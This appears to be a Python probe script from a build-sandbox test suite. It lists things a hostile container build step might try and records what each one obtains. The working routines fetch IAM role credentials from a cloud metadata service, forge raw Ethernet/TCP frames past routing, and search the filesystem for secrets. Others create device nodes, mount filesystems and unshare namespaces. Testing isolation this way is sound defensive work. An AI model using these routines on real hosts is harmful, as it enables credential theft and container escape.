"""What a hostile RUN step tries: `attack_probe.py FILE WHAT ARGUMENT ...` writes what it got, or how that failed.

Runs in RUN steps with Debian's Python, and on the builder's own side of the wall to show what there is to get.
"""

import contextlib
import ctypes
import os
import socket
import ssl
import stat
import struct
import subprocess
import sys
import time
import urllib.error
import urllib.request
from collections.abc import Callable
from pathlib import Path

PATIENCE_SECONDS = 1.0
GATEWAY = "10.10.0.1"
PORT = 40000
_LIBC = ctypes.CDLL(None, use_errno=True)


def http(method: str, url: str, *headers: str) -> str:
    """Return the status and the body that a request gets, each header given as `Name:value`."""
    fields = dict(header.split(":", 1) for header in headers)
    request = urllib.request.Request(url, method=method, headers=fields)  # noqa: S310 - http is what is attacked
    direct = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    try:
        with direct.open(request, timeout=PATIENCE_SECONDS) as answer:
            return f"{answer.status} {answer.read().decode()}"
    except urllib.error.HTTPError as answer:
        return f"{answer.code} {answer.read().decode()}"


def credentials(address: str) -> str:
    """Return the role's credentials from a metadata service, the way that SDKs take: version 2."""
    top = f"http://{address}/latest"
    _, token = http("PUT", f"{top}/api/token", "X-aws-ec2-metadata-token-ttl-seconds:60").split(" ", 1)
    header = f"X-aws-ec2-metadata-token:{token}"
    _, role = http("GET", f"{top}/meta-data/iam/security-credentials/", header).split(" ", 1)
    return http("GET", f"{top}/meta-data/iam/security-credentials/{role}", header)


def connect(address: str, port: str) -> str:
    """Open a TCP connection; to a link-local address, through the step's one interface."""
    if address.startswith("fe80:"):
        address += f"%{_interface()}"
    socket.create_connection((address, int(port)), PATIENCE_SECONDS).close()
    return "connected"


def ask(address: str, port: str) -> str:
    """Return the answer to a datagram."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
        asking.settimeout(PATIENCE_SECONDS)
        asking.sendto(b"?", (address, int(port)))
        return asking.recv(100).decode()


def look_up(name: str) -> str:
    """Return an address of a host name."""
    return str(socket.getaddrinfo(name, 443, type=socket.SOCK_STREAM)[0][4][0])


def speak_tls(address: str, port: str, *certificate: str) -> str:
    """Return how the daemon begins to talk, to a client with the certificate and the key in the files given, if any."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE  # an attacker does not ask whom it talks to
    context.set_alpn_protocols(["h2"])
    if certificate:
        context.load_cert_chain(*certificate)
    with (
        socket.create_connection((address, int(port)), PATIENCE_SECONDS) as plain,
        context.wrap_socket(plain) as speaking,
    ):
        # HTTP/2 lets the server speak first; and who sends nothing cannot miss why it is sent away.
        return f"{len(speaking.recv(100))} bytes"


def forge(address: str) -> str:
    """Send a connection's first packet to port 80 in a frame for the gateway, past the step's own routing table."""
    with contextlib.suppress(OSError):
        connect(GATEWAY, "9")  # fills the ARP table
    (gateway,) = (line.split() for line in Path("/proc/net/arp").read_text().splitlines() if line.startswith(GATEWAY))
    own = Path(f"/sys/class/net/{_interface()}/address").read_text().strip()
    frame = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
    frame.bind((_interface(), 0))
    frame.settimeout(0.1)
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    packet = _first_packet(family, _own_address(family), socket.inet_pton(family, address))
    kind = b"\x86\xdd" if family == socket.AF_INET6 else b"\x08\x00"
    frame.send(_mac(gateway[3]) + _mac(own) + kind + packet)
    wanted = socket.inet_pton(family, address) + _own_address(family)
    deadline = time.monotonic() + PATIENCE_SECONDS
    while time.monotonic() < deadline:
        with contextlib.suppress(TimeoutError):
            if wanted in frame.recv(2000):
                return "answered"
    return "silence"


def _interface() -> str:
    return next(name for _, name in socket.if_nameindex() if name.startswith("eth"))


def _mac(words: str) -> bytes:
    return bytes.fromhex(words.replace(":", ""))


def _own_address(family: int) -> bytes:
    with socket.socket(family, socket.SOCK_DGRAM) as unsent:
        if family == socket.AF_INET:
            unsent.connect((GATEWAY, 9))
        else:
            unsent.connect(("fe80::1", 9, 0, socket.if_nametoindex(_interface())))
        return socket.inet_pton(family, unsent.getsockname()[0].partition("%")[0])


def _first_packet(family: int, source: bytes, destination: bytes) -> bytes:
    segment = struct.pack("!HHIIBBHHH", PORT, 80, 1, 0, 5 << 4, 2, 8192, 0, 0)
    pseudo = source + destination + struct.pack("!II", len(segment), socket.IPPROTO_TCP)
    segment = segment[:16] + _checksum(pseudo + segment) + segment[18:]
    if family == socket.AF_INET6:
        return struct.pack("!IHBB", 6 << 28, len(segment), socket.IPPROTO_TCP, 64) + source + destination + segment
    header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(segment), 1, 0, 64, socket.IPPROTO_TCP, 0)
    header += source + destination
    return header[:10] + _checksum(header) + header[12:] + segment


def _checksum(data: bytes) -> bytes:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return struct.pack("!H", ~total & 0xFFFF)


def read(path: str) -> str:
    """Return a file's text."""
    return Path(path).read_text()


def write(path: str, text: str) -> str:
    """Write to a file."""
    Path(path).write_text(text)
    return "written"


def find(*words: str) -> str:
    """Return the files of which the name is one of the words or the content has one, of all that the step sees."""
    found = set()
    for directory, names, files in os.walk("/"):
        if directory == "/sys":
            names.clear()  # the kernel's, and endless
        for path in (Path(directory) / name for name in files):
            with contextlib.suppress(OSError):
                if path.name in words or any(word.encode() in _head(path) for word in words):
                    found.add(str(path))
    return " ".join(sorted(found))


def _head(path: Path) -> bytes:
    # What the step was given to search for is on its own command line, and in the build context.
    if (
        not path.is_file()
        or path.is_relative_to("/attack")
        or (path.is_relative_to("/proc/1") and path.name == "cmdline")
    ):
        return b""
    with path.open("rb") as file:
        return file.read(10_000)


def sockets() -> str:
    """Return the sockets in the file system and, by `@name`, those outside of it."""
    paths = (Path(directory) / name for directory, _, files in os.walk("/") for name in files)
    found = []
    for path in paths:
        with contextlib.suppress(OSError):
            if stat.S_ISSOCK(path.lstat().st_mode) and not path.is_relative_to("/proc"):
                found.append(str(path))
    abstract = [line.split()[-1] for line in Path("/proc/net/unix").read_text().splitlines() if "@" in line]
    return " ".join(sorted(found + abstract))


def processes() -> str:
    """Return the ids of all processes."""
    return " ".join(path.name for path in Path("/proc").glob("[0-9]*"))


def privileges() -> str:
    """Return the capabilities and the mode of the system call filter."""
    lines = (line.split() for line in Path("/proc/self/status").read_text().splitlines())
    return " ".join(f"{words[0]}{words[1]}" for words in lines if words[0] in ("CapEff:", "CapBnd:", "Seccomp:"))


def device(kind: str, major: str, minor: str) -> str:
    """Make a device, `block` or `character`, and open it."""
    mode = {"block": stat.S_IFBLK, "character": stat.S_IFCHR}[kind]
    os.mknod("/device", mode | 0o600, os.makedev(int(major), int(minor)))
    os.close(os.open("/device", os.O_RDONLY))
    return "opened"


def mount(kind: str, source: str) -> str:
    """Mount a file system, or with the kind `bind` a directory."""
    Path("/mounted").mkdir()
    bind = 4096
    flags = bind if kind == "bind" else 0
    return _call("mount", source.encode(), b"/mounted", kind.encode(), flags, None)


def unshare(flags: str) -> str:
    """Leave namespaces for new ones."""
    return _call("unshare", int(flags, 16))


def _call(name: str, *arguments: bytes | int | None) -> str:
    if getattr(_LIBC, name)(*arguments):
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return "done"


def run(*command: str) -> str:
    """Return what a program says."""
    # Without BuildKit's variables, for which `buildctl` would first send its own traces.
    return subprocess.run(
        command, env={}, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, check=False
    ).stdout


def hold(path: str, end: str) -> str:
    """Return a file's text, once another file is there; after half a minute in any case."""
    text = read(path)
    deadline = time.monotonic() + 30
    while not Path(end).exists() and time.monotonic() < deadline:
        time.sleep(0.05)
    return text


TRICKS: dict[str, Callable[..., str]] = {
    **{each.__name__: each for each in (http, credentials, connect, ask, look_up, speak_tls, forge)},
    **{each.__name__: each for each in (read, write, find, sockets, processes, privileges)},
    **{each.__name__: each for each in (device, mount, unshare, run, hold)},
}


def main() -> None:
    """Try one thing."""
    _, file, what, *arguments = sys.argv
    try:
        got = TRICKS[what](*arguments)
    except OSError as error:
        got = f"{type(error).__name__}: {error}"
    Path(file).write_text(got)


if __name__ == "__main__":
    main()
